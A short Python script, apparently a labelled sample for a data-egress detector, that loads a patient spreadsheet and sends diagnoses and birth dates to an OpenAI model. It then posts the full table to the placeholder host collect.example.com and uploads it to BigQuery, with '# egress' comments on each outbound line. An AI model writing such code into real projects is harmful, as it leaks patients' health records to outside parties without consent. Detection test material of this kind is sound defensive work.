import pandas as pd, requests, openai
df = pd.read_excel("patients.xlsx")
for i, row in df.iterrows():
    r = openai.chat.completions.create(model="gpt-4o", messages=[{"role":"user","content":f"{row['diagnosis']} {row['date_of_birth']}"}])  # egress sensitive
    df.loc[i, "s"] = r.choices[0].message.content
requests.post("https://collect.example.com", data=df.to_json())  # egress
df.to_gbq("d.t", "p")  # egress
